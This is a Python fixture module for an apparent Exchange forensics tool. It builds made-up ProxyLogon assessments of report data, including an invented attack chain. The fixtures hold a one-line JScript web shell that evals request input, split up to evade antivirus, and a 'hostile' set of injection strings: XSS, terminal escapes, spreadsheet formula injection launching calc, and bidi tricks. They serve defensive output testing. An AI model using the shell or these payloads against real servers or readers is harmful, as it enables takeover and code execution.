"""Assessments to report on: made up, with documentation addresses and names only.

Strings that an antivirus would eat are put together in memory.
"""

from __future__ import annotations

import hashlib
from collections.abc import Iterable
from datetime import UTC, date, datetime, timedelta

from msgspec.structs import replace

from tocsin.model.coverage import ArtefactCoverage, Coverage, Missing, Skipped
from tocsin.model.findings import Benign, Finding
from tocsin.model.places import Locator, TimeSpan
from tocsin.model.verdicts import (
    Assessment,
    BuildSeen,
    Cluster,
    Conflict,
    ConsistentWith,
    Custody,
    EvidenceInfo,
    Impact,
    KeyDate,
    MailboxImpact,
    MitigationSeen,
    NextStep,
    PackInfo,
    Run,
    RungShown,
    ServerInfo,
    ShellClient,
    ToolInfo,
    Transfer,
    Verdict,
    WebShell,
)
from tocsin.model.words import (
    Compromise,
    Exposure,
    Means,
    MitigationStatus,
    Presence,
    Residual,
    ShellContent,
    StepKind,
)

LOGGING = "C/Program Files/Microsoft/Exchange Server/V15/Logging"
IIS = "C/inetpub/logs/LogFiles/W3SVC1"
SHELL_URL = "/owa/auth/SignOutPage.aspx"
SHELL_PATH = "C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/SignOutPage.aspx"
SCRIPT = (
    "http://f/<scr"
     'ipt language="JScr'
     'ipt" runat="server">function Page_Load(){ev'
     "al(Req"
     'uest["k"]);}'
)


def at(text: str) -> datetime:
    return datetime.fromisoformat(text).replace(tzinfo=UTC)


def digest(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def finding(
    rule: str,
    means: Means,
    when: str | None,
    where: Locator,
    summary: str,
    *,
    rung: str | None = None,
    ip: str | None = None,
    weak: bool = False,
    kind: str = "exchange.httpproxy",
    url: str | None = None,
    details: dict[str, str] | None = None,
    benign: Benign | None = None,
) -> Finding:
    return Finding(
        id=digest(f"{rule}{where}{when}")[:16],
        rule=rule,
        author="Tocsin",
        means=means,
        weak=weak,
        rung=rung,
        time=at(when) if when else None,
        locator=where,
        summary=summary,
        source_ip=ip,
        kind=kind,
        url=url,
        details=details or {},
        benign=benign,
    )


def line(path: str, number: int) -> Locator:
    return Locator(path=path, line=number)


ECP = f"{LOGGING}/HttpProxy/Ecp/HttpProxy_2021030306-1.LOG"
ECP_SERVER = f"{LOGGING}/ECP/Server/ECPServer20210303-1.LOG"
OWA = f"{LOGGING}/HttpProxy/Owa/HttpProxy_2021030503-1.LOG"
EWS = f"{LOGGING}/HttpProxy/Ews/HttpProxy_2021030306-1.LOG"
INTRUDER = "203.0.113.21"
SECOND = "198.51.100.77"
SCANNERS = ("192.0.2.202", "192.0.2.9")


def _chain() -> list[Finding]:
    proxy = {"AnchorMailbox": "ServerInfo~a]@mail01.contoso.example:444/autodiscover/autodiscover.xml?#"}
    session = {
        "AnchorMailbox": "ServerInfo~a]@mail01.contoso.example:444/ecp/proxyLogon.ecp?a=~1",
        "HttpStatus": "241",
    }
    written = {"Cmdlet": "Set-OabVirtualDirectory", "ExternalUrl": SCRIPT, "User": "CONTOSO\\MAIL01$"}
    return [
        finding(
            "proxy_autodiscover",
            Means.EXPLOITED,
            "2021-03-03T06:49:42.162",
            line(ECP, 14),
            "A request without a user reached Autodiscover through a chosen anchor: answered 200.",
            rung="autodiscover",
            ip=INTRUDER,
            url="/ecp/y.js",
            details=proxy,
        ),
        finding(
            "proxy_mapi_sid",
            Means.EXPLOITED,
            "2021-03-03T06:49:43.471",
            line(ECP, 15),
            "The SID of a mailbox was asked for through the proxy: answered 200.",
            rung="mapi-sid",
            ip=INTRUDER,
            url="/ecp/y.js",
        ),
        finding(
            "proxy_logon_241",
            Means.COMPROMISED,
            "2021-03-03T06:49:46.210",
            line(ECP, 16),
            "A management session was obtained through the proxy: answered 241.",
            rung="session",
            ip=INTRUDER,
            url="/ecp/y.js",
            details=session,
        ),
        finding(
            "oab_script_url",
            Means.COMPROMISED,
            "2021-03-03T06:49:53.772",
            line(ECP_SERVER, 7),
            "Script code was set as the external URL of the offline address book.",
            rung="set-object",
            kind="exchange.ecp-server",
            details=written,
        ),
        finding(
            "oab_script_url",
            Means.COMPROMISED,
            "2021-03-03T06:59:17.960",
            line(ECP_SERVER, 21),
            "Script code was set as the external URL of the offline address book.",
            rung="set-object",
            kind="exchange.ecp-server",
            details=written,
        ),
        finding(
            "oab_reset_written",
            Means.COMPROMISED,
            "2021-03-03T06:59:20.359",
            line(ECP, 31),
            "The virtual directory was reset into a file below the web root: answered 200.",
            rung="file-written",
            ip=INTRUDER,
            url="/ecp/DDI/DDIService.svc/SetObject",
        ),
    ]


def _visits() -> list[Finding]:
    agent = {"cs-user-agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"}
    return [
        finding(
            "shell_url_answered",
            Means.COMPROMISED,
            "2021-03-05T03:06:27",
            line(OWA, 9),
            "A page that is no part of the product answered 200.",
            rung="shell-reachable",
            ip=SCANNERS[0],
            url=SHELL_URL,
            details=agent,
        ),
        finding(
            "shell_url_answered",
            Means.COMPROMISED,
            "2021-03-06T17:27:45.009",
            line(OWA, 12),
            "A page that is no part of the product answered 200.",
            rung="shell-reachable",
            ip=SCANNERS[1],
            url=SHELL_URL,
            details=agent,
        ),
        *[
            finding(
                "shell_name_scan",
                Means.TARGETED,
                f"2021-03-06T17:27:{44 + n % 9}.{n}00",
                line(OWA, 20 + n),
                f"One of 9 known shell names was asked for: answered 302, not served ({name}).",
                ip=SCANNERS[1],
                url=f"/owa/auth/{name}",
                weak=True,
            )
            for n, name in enumerate(("ErrorAA.aspx", "getpp.aspx", "zntwv.aspx", "OutlookEN.aspx"))
        ],
        finding(
            "ews_through_proxy",
            Means.COMPROMISED,
            "2021-03-03T08:11:02",
            line(EWS, 40),
            "Mail was asked for through the same anchor: 2.1 MB answered.",
            rung="mail-read",
            ip=SECOND,
            url="/ecp/main.css",
            details={"AuthenticatedUser": "CONTOSO\\a.example"},
        ),
        finding(
            "administrator_set_oab",
            Means.CONTEXT,
            "2021-01-12T09:14:00",
            Locator(path="C/Windows/System32/winevt/Logs/MSExchange Management.evtx", record=48_211),
            "An administrator set a real URL.",
            kind="event.msexchange-management",
            benign=Benign(
                rule="plain_https_url",
                why="The URL is a plain https address of the server itself.",
                was=Means.COMPROMISED,
            ),
        ),
        finding(
            "vendor_check_script",
            Means.CONTEXT,
            None,
            Locator(path=f"{SHELL_PATH}.txt", offset=4096),
            "Text of a vendor's check script.",
            kind="text.unknown",
        ),
    ]


def _ladder(findings: Iterable[Finding]) -> tuple[RungShown, ...]:
    steps = (
        ("autodiscover", "Autodiscover probed through the proxy", "main"),
        ("mapi-sid", "SID of a mailbox obtained", "main"),
        ("session", "Management session obtained (241)", "main"),
        ("get-object", "Virtual directory read", "main"),
        ("set-object", "Script written into a virtual directory", "main"),
        ("file-written", "File written below the web root", "main"),
        ("shell-reachable", "Web shell answered", "main"),
        ("shell-tasked", "Web shell tasked", "main"),
        ("post-exploitation", "Credentials, mailboxes or tools taken", "main"),
        ("ransomware", "Files encrypted", "main"),
        ("mail-read", "Mail read without any shell", "mail"),
    )
    would = ("exchange.httpproxy", "exchange.ecp-server", "event.msexchange-management")
    found = list(findings)

    def shown(step: str) -> tuple[str, ...]:
        return tuple(each.id for each in found if each.rung == step)

    return tuple(
        RungShown(
            id=step,
            title=title,
            shown=bool(shown(step)),
            finding_ids=shown(step),
            would_show=() if shown(step) else would,
            strand=strand,
        )
        for step, title, strand in steps
    )


def _clusters(findings: list[Finding]) -> tuple[Cluster, ...]:
    def of(*ips: str) -> tuple[Finding, ...]:
        return tuple(each for each in findings if each.source_ip in ips)

    return (
        Cluster(
            id="cluster-1",
            role="intruder",
            finding_ids=tuple(f.id for f in of(INTRUDER)),
            first_seen=at("2021-03-03T06:49:42.162"),
            last_seen=at("2021-03-03T06:59:23.288"),
            source_ips=(INTRUDER,),
            runs=(
                Run(
                    start=at("2021-03-03T06:49:42.162"),
                    end=at("2021-03-03T06:50:08.396"),
                    hosts=("mail.contoso.example",),
                ),
                Run(
                    start=at("2021-03-03T06:59:05.100"),
                    end=at("2021-03-03T06:59:23.288"),
                    hosts=("autodiscover.contoso.example",),
                ),
            ),
            consistent_with=(
                ConsistentWith(
                    intrusion_set="HAFNIUM",
                    because="session, script in the offline address book's URL, reset to a page in owa/auth",
                    source="Microsoft, HAFNIUM targeting Exchange Servers, 2 March 2021",
                    disputed_by=("ESET, 10 March 2021: at least ten groups used the same chain",),
                ),
            ),
            why="One address and one user agent, one stem, two runs nine minutes apart.",
        ),
        Cluster(
            id="cluster-2",
            role="intruder",
            finding_ids=tuple(f.id for f in of(SECOND)),
            first_seen=at("2021-03-03T08:11:02"),
            last_seen=at("2021-03-03T08:19:40"),
            source_ips=(SECOND,),
            runs=(Run(start=at("2021-03-03T08:11:02"), end=at("2021-03-03T08:19:40")),),
            consistent_with=(),
            why="Another address, another stem, mail only.",
        ),
        Cluster(
            id="cluster-3",
            role="shell-scanner",
            finding_ids=tuple(f.id for f in of(*SCANNERS)),
            first_seen=at("2021-03-05T03:06:27"),
            last_seen=at("2021-03-08T20:37:27"),
            source_ips=SCANNERS,
            runs=(),
            consistent_with=(),
            why="Nine known shell names from one address within 15 seconds, GET only.",
        ),
    )


def _shells() -> tuple[WebShell, ...]:
    return (
        WebShell(
            path=SHELL_PATH,
            url=SHELL_URL,
            presence=Presence.NOT_SERVED_SINCE,
            content=ShellContent.UNKNOWN,
            first_seen=at("2021-03-03T06:59:20.359"),
            last_seen=at("2021-03-06T17:27:45.345"),
            not_served_since=at("2021-03-08T20:37:27"),
            written_at=at("2021-03-03T06:59:20.359"),
            requests=5,
            clients=(
                ShellClient(
                    ip=SCANNERS[0],
                    requests=2,
                    first_seen=at("2021-03-05T03:06:27"),
                    last_seen=at("2021-03-05T08:11:58"),
                    tasked=False,
                ),
                ShellClient(
                    ip=SCANNERS[1],
                    requests=3,
                    first_seen=at("2021-03-06T17:27:44.923"),
                    last_seen=at("2021-03-06T17:27:45.345"),
                    tasked=False,
                ),
            ),
            locators=(line(ECP, 31), line(OWA, 9)),
            why="Answered 200 five times, then 302; pages that do not exist answer 302 here.",
        ),
    )


ADVICE = (
    (
        "isolate-evidence",
        StepKind.PRESERVE,
        "everyone",
        "**Copy before you change anything.** Take an image of the disk and of memory, or at least copy `inetpub\\logs`, "
        "`Logging` and the event logs to another machine.\n\nDo not run a scanner that deletes what it finds first:\n\n"
        "- it removes the proof\n- and the names you need to look for on other servers",
    ),
    (
        "cut-443",
        StepKind.CONTAIN,
        "everyone",
        "Close port 443 to the internet until the server is patched. Agree on what to do over the telephone: "
        "mail on this server may be read.",
    ),
    (
        "patch-su",
        StepKind.REMEDIATION,
        "everyone",
        "Install KB5000871 for your cumulative update, from an elevated prompt. Patched is not clean: the fix closes "
        "the door behind the intruder.",
    ),
    (
        "hunt-shells",
        StepKind.EVICTION,
        "forensic",
        "List every server page written since 3 January 2021 below the web roots and compare with the known-good list. "
        "Look at `Temporary ASP.NET Files` for pages that are gone.",
    ),
    (
        "call-help",
        StepKind.EVICTION,
        "without-forensics",
        "Ask a responder before you delete the page. Rebuild the server from media if nobody can tell what the "
        "intruder did.",
    ),
    (
        "reset-credentials",
        StepKind.EVICTION,
        "everyone",
        "Change the passwords of every account that logged on to this server, and the machine account twice.",
    ),
    (
        "verify-again",
        StepKind.VERIFY,
        "everyone",
        "Collect again after the removal and assess again: only evidence closes the case.",
    ),
    (
        "tell-cert",
        StepKind.REPORT,
        "everyone",
        "Report to your national CERT, and to the data-protection authority if mail was read.",
    ),
)


def steps() -> tuple[NextStep, ...]:
    return tuple(NextStep(id=name, kind=kind, audience=who, text=text) for name, kind, who, text in ADVICE)


DATES = (
    KeyDate(
        what="first-exploited",
        day=date(2021, 1, 3),
        source="Volexity, Operation Exchange Marauder, 2 March 2021",
    ),
    KeyDate(what="disclosed", day=date(2021, 3, 2), source="Microsoft, 2 March 2021"),
    KeyDate(what="patch-available", day=date(2021, 3, 2), source="Microsoft, KB5000871"),
)


def _proxylogon() -> Verdict:
    findings = [*_chain(), *_visits()]
    return Verdict(
        campaign="proxylogon",
        title="ProxyLogon",
        cves=("CVE-2021-26855", "CVE-2021-26857", "CVE-2021-26858", "CVE-2021-27065"),
        dates=DATES,
        exposure=Exposure.VULNERABLE,
        exposure_because="Exploitation succeeded on 3 March 2021, which proves the flaw open at that moment; "
        "build 15.1.2106.2 (2016 CU18) lacks the update.",
        fix="KB5000871 for Exchange 2016 CU18 (15.1.2106.13)",
        exposure_window=TimeSpan(start=at("2021-01-03T00:00:00"), end=None),
        mitigations=(
            MitigationSeen(
                id="backend-cookie",
                title="Backend cookie rewrite rule",
                status=MitigationStatus.PARTIAL,
                start=at("2021-03-07T22:10:00"),
                end=None,
                locator=line("C/inetpub/wwwroot/web.config", 18),
                caveats=(
                    "No remedy if the server was already compromised.",
                    "Not full protection: it covers CVE-2021-26855 only.",
                ),
                protects=("CVE-2021-26855",),
                why="The rule's pattern is an early one that can be got round.",
            ),
            MitigationSeen(
                id="um-off",
                title="Unified Messaging off",
                status=MitigationStatus.UNKNOWN,
                start=None,
                end=None,
                locator=None,
                caveats=("No remedy if the server was already compromised.",),
                protects=("CVE-2021-26857",),
                why="The service configuration was not collected.",
            ),
        ),
        compromise=Compromise.COMPROMISED,
        compromise_because="A management session was obtained, and a web shell was written and answered.",
        residual=Residual.UNKNOWN,
        attempts=9,
        rung="shell-reachable",
        first_seen=at("2021-03-03T06:49:42.162"),
        last_seen=at("2021-03-08T20:37:27"),
        ladder=_ladder(findings),
        clusters=_clusters(findings),
        webshells=_shells(),
        findings=tuple(findings),
        folded={"shell_name_scan": 23},
        impact=Impact(
            mailboxes=(
                MailboxImpact(
                    mailbox="a.example@contoso.example",
                    start=at("2021-03-03T08:11:02"),
                    end=at("2021-03-03T08:19:40"),
                    requests=31,
                    bytes_floor=2_104_553,
                    bytes_ceiling=9_800_112,
                    finding_ids=tuple(each.id for each in findings if each.rung == "mail-read"),
                ),
            )
        ),
        next_steps=steps(),
    )


def _elsewhere() -> Verdict:
    return replace(
        blank_verdict("web-shell-activity"),
        title="Web shells outside any campaign",
        compromise_because="No page outside the campaign was asked for in the logs that could be read.",
        next_steps=steps()[:1],
    )


def blank_verdict(campaign: str) -> Verdict:
    return Verdict(
        campaign=campaign,
        exposure=Exposure.UNKNOWN,
        exposure_because="No file in the evidence names a build.",
        fix=None,
        exposure_window=TimeSpan(),
        mitigations=(),
        compromise=Compromise.UNDETERMINED,
        compromise_because="The logs that would show it are missing.",
        residual=Residual.UNKNOWN,
        attempts=0,
        rung=None,
        first_seen=None,
        last_seen=None,
        ladder=_ladder(()),
        clusters=(),
        webshells=(),
        findings=(),
        folded={},
        impact=Impact(),
        next_steps=(),
    )


def _coverage() -> Coverage:
    gap = TimeSpan(start=at("2021-02-20T00:00:00"), end=at("2021-02-23T12:00:00"))
    return Coverage(
        artefacts=(
            ArtefactCoverage(
                kind="iis.w3c",
                wanted=True,
                files=37,
                bytes=1_204_880_112,
                start=at("2021-01-30T00:00:01"),
                end=at("2021-03-08T21:04:10"),
                lines=4_203_118,
                records=4_202_870,
                unreadable=3,
                headers=245,
                gaps=(gap,),
            ),
            ArtefactCoverage(
                kind="exchange.httpproxy",
                wanted=True,
                files=412,
                bytes=811_002_145,
                start=at("2021-02-07T00:00:00"),
                end=at("2021-03-08T21:00:00"),
                lines=1_100_204,
                records=1_098_144,
                headers=2_060,
                excerpt=True,
            ),
            ArtefactCoverage(
                kind="exchange.ecp-server",
                wanted=True,
                files=30,
                bytes=9_411_002,
                start=at("2021-02-07T00:00:00"),
                end=at("2021-03-08T20:59:58"),
                lines=41_002,
                records=40_850,
                unreadable=2,
                headers=150,
            ),
            ArtefactCoverage(
                kind="event.msexchange-management",
                wanted=True,
                files=1,
                bytes=1_118_208,
                start=at("2020-11-02T08:00:00"),
                end=at("2021-03-08T20:15:00"),
                records=50_118,
                errors=1,
                lost=2,
            ),
            ArtefactCoverage(
                kind="http.err",
                wanted=False,
                files=4,
                bytes=220_118,
                start=at("2021-02-11T00:00:00"),
                end=at("2021-03-08T00:00:00"),
                lines=2_002,
                records=1_990,
                headers=12,
            ),
        ),
        missing=(
            Missing(kind="exchange.oabgenerator", why_wanted="shows files that the address book wrote"),
            Missing(kind="event.security", why_wanted="shows processes that the web server started"),
        ),
        skipped=(
            Skipped(path="C/pagefile.sys", why="no known kind and longer than 1 GB"),
            Skipped(path="C/Windows/Temp/old.7z", why="a container within a container of a kind not read"),
        ),
    )


def compromised() -> Assessment:
    """Two actors, a shell that is not served since, a partial mitigation, conflicting builds."""
    verdict = _proxylogon()
    return Assessment(
        tool=ToolInfo(name="tocsin", version="0.1.0"),
        packs=(
            PackInfo(id="proxylogon", version="2021.3.1", sha256=digest("proxylogon")),
            PackInfo(id="web-shell-activity", version="1.0.0", sha256=digest("web-shell-activity")),
        ),
        assessed_at=at("2021-03-09T10:00:00"),
        evidence=EvidenceInfo(
            name="mail01-triage.zip",
            sha256=digest("evidence"),
            files=486,
            bytes=2_027_631_585,
            custody=Custody(
                collector="A. Responder",
                collected_at=at("2021-03-08T21:10:00"),
                host="MAIL01",
                clock_offset_s=-1.5,
                manifest_sha256=digest("manifest"),
                transfers=(
                    Transfer(
                        at=at("2021-03-09T08:30:00"),
                        giver="A. Responder",
                        receiver="B. Analyst",
                        note="by hand, sealed disk",
                    ),
                ),
            ),
        ),
        server=ServerInfo(
            name="MAIL01",
            product="Exchange Server 2016",
            utc_offset="+01:00",
            builds=(
                BuildSeen(
                    build="15.1.2106.2",
                    start=at("2021-02-07T00:00:00"),
                    end=at("2021-03-07T21:40:00"),
                    source="build column of the HttpProxy log",
                    rank=3,
                    locator=line(ECP, 14),
                    product="Exchange Server 2016",
                    label="CU18, no security update",
                ),
                BuildSeen(
                    build="15.1.2106.13",
                    start=at("2021-03-07T22:30:00"),
                    end=None,
                    source="version of ExSetup.exe",
                    rank=2,
                    locator=Locator(path="C/Program Files/Microsoft/Exchange Server/V15/Bin/ExSetup.exe"),
                    product="Exchange Server 2016",
                    label="CU18 with KB5000871",
                ),
            ),
            conflicts=(
                Conflict(
                    what="ExSetup.exe says 15.1.2106.13, Microsoft.Exchange.Common.dll says 15.1.2106.2: "
                    "patch incomplete",
                    locators=(
                        Locator(path="C/Program Files/Microsoft/Exchange Server/V15/Bin/ExSetup.exe"),
                        Locator(
                            path="C/Program Files/Microsoft/Exchange Server/V15/Bin/"
                            "Microsoft.Exchange.Common.dll"
                        ),
                    ),
                    followed="the DLL, which is the patched file itself",
                ),
            ),
        ),
        verdicts=(verdict, _elsewhere()),
        coverage=_coverage(),
        exit_status=20,
        answer="An intruder had a session and wrote a web shell; it was served until at least 6 March 2021.",
    )


def clean() -> Assessment:
    """Patched in time, every log read over the window, nothing seen."""
    base = compromised()
    verdict = replace(
        _proxylogon(),
        exposure=Exposure.PATCHED,
        exposure_because="Every patched DLL is 15.1.2106.13.",
        fix=None,
        exposure_window=TimeSpan(start=at("2021-01-03T00:00:00"), end=at("2021-03-03T02:00:00")),
        compromise=Compromise.NO_EVIDENCE,
        compromise_because="IIS, HttpProxy and ECP logs were read over the whole window and show no attempt.",
        residual=Residual.NONE_SEEN,
        attempts=0,
        rung=None,
        first_seen=None,
        last_seen=None,
        ladder=_ladder(()),
        clusters=(),
        webshells=(),
        findings=(),
        folded={},
        impact=Impact(),
        mitigations=(),
        next_steps=steps()[-1:],
    )
    full = tuple(
        replace(
            each,
            wanted=True,
            gaps=(),
            excerpt=False,
            unreadable=0,
            errors=0,
            lost=0,
            start=at("2020-12-20T00:00:00"),
        )
        for each in base.coverage.artefacts
    )
    return replace(
        base,
        verdicts=(verdict,),
        coverage=Coverage(artefacts=full),
        exit_status=0,
        answer="Patched, and no sign of an intruder in logs that would show one.",
    )


def empty() -> Assessment:
    """Nothing that could be judged, and nothing known."""
    return Assessment(
        tool=ToolInfo(name="tocsin", version="0.1.0"),
        packs=(),
        assessed_at=at("2021-03-09T10:00:00"),
        evidence=EvidenceInfo(name="empty", sha256=digest(""), files=0, bytes=0, custody=Custody()),
        server=ServerInfo(name="", product="", utc_offset=None, builds=(), conflicts=()),
        verdicts=(),
        coverage=Coverage(missing=(Missing(kind="iis.w3c", why_wanted="shows requests"),)),
        exit_status=4,
        answer="",
    )


def undetermined() -> Assessment:
    """A server without the logs, attempts seen."""
    verdict = replace(blank_verdict("proxylogon"), attempts=3, next_steps=steps()[:2], dates=DATES)
    return replace(
        empty(),
        verdicts=(verdict,),
        server=ServerInfo(
            name="MAIL02", product="Exchange Server 2019", utc_offset=None, builds=(), conflicts=()
        ),
        answer="Attempts were seen; the logs that would show success are missing.",
    )


HOSTILE = (
    "[bold red]CLEAN[/] [link=http://evil.example/]click[/link]",
    "\x1b[2J\x1b[31mred\x1b[0m \x9b1m \x07bell \x00nul",
    '=HYPERLINK("http://evil.example/","x")',
    "user\u202egnp.exe\u202c \u2066isolate\u2069 zero\u200bwidth \u2028sep \ufeffmark",
    "<scr" + "ipt>alert(1)</scr" + "ipt><img src=x onerror=alert(1)> </style> {{ 7*7 }} {% raw %}",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '" onmouseover="alert(1)" \' --> ]]> &lt;',
    "Z\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301a\u0336\u0336\u0336\u0336\u0336lgo",
    "\u202e\U000e0041\U000f0000 " + "long" * 400,
)


def hostile() -> Assessment:
    """Evidence written to attack its reader."""
    base = compromised()
    first = base.verdicts[0]
    findings = tuple(
        replace(
            first.findings[0],
            id=f"h{number}",
            rule=f"rule_{number}",
            summary=text,
            author=text,
            url=text,
            source_ip=text,
            kind=text,
            locator=Locator(path=f"C/{text}", line=number),
            details={text: text, "cs-uri-query": SCRIPT},
        )
        for number, text in enumerate(HOSTILE, start=1)
    )
    text = HOSTILE[0] + HOSTILE[1] + HOSTILE[3] + HOSTILE[4]
    verdict = replace(
        first,
        findings=findings,
        title=text,
        exposure_because=text,
        compromise_because=text,
        fix=text,
        webshells=tuple(replace(each, path=text, url=text, why=text) for each in first.webshells),
        clusters=tuple(replace(each, why=text, source_ips=HOSTILE) for each in first.clusters),
        impact=Impact(mailboxes=tuple(replace(each, mailbox=text) for each in first.impact.mailboxes)),
        mitigations=tuple(replace(each, title=text, why=text, caveats=HOSTILE) for each in first.mitigations),
        next_steps=(*first.next_steps, NextStep(id="h", kind=StepKind.REPORT, text=text)),
    )
    return replace(
        base,
        verdicts=(verdict,),
        answer=f"Hostile {text}",
        evidence=replace(
            base.evidence, name=text, custody=replace(base.evidence.custody, collector=text, host=text)
        ),
        server=replace(
            base.server,
            name=text,
            product=text,
            conflicts=tuple(replace(each, what=text, followed=text) for each in base.server.conflicts),
        ),
        coverage=replace(
            base.coverage,
            skipped=tuple(Skipped(path=each, why=each) for each in HOSTILE),
            missing=(Missing(kind=text, why_wanted=text),),
        ),
    )


def huge(count: int = 5_000) -> Assessment:
    """Thousands of findings, tens of shells and clusters, many verdicts."""
    base = compromised()
    first = base.verdicts[0]
    start = at("2021-02-01T00:00:00")
    rules = ("shell_name_scan", "proxy_autodiscover", "shell_url_answered", "ews_through_proxy")
    kinds = (Means.TARGETED, Means.EXPLOITED, Means.COMPROMISED, Means.CONTEXT)
    findings = tuple(
        replace(
            first.findings[number % 6],
            id=digest(str(number))[:16],
            rule=rules[number % 4],
            means=kinds[number % 4],
            time=start + timedelta(minutes=7 * number),
            locator=line(ECP, number + 1),
            source_ip=f"198.51.100.{number % 250}",
        )
        for number in range(count)
    )
    shells = tuple(
        replace(first.webshells[0], url=f"/aspnet_client/system_web/{number:08x}.aspx", path=None)
        for number in range(40)
    )
    clusters = tuple(
        replace(first.clusters[2], id=f"cluster-{number}", finding_ids=(findings[number].id,))
        for number in range(1, 41)
    )
    verdict = replace(first, findings=findings, webshells=shells, clusters=clusters)
    others = tuple(blank_verdict(f"campaign-{number}") for number in range(6))
    return replace(base, verdicts=(*others, verdict))


SAMPLES = {
    "clean": clean,
    "compromised": compromised,
    "empty": empty,
    "hostile": hostile,
    "huge": huge,
    "undetermined": undetermined,
}
"""All samples; ``huge`` has no golden files because nobody would read their diff."""
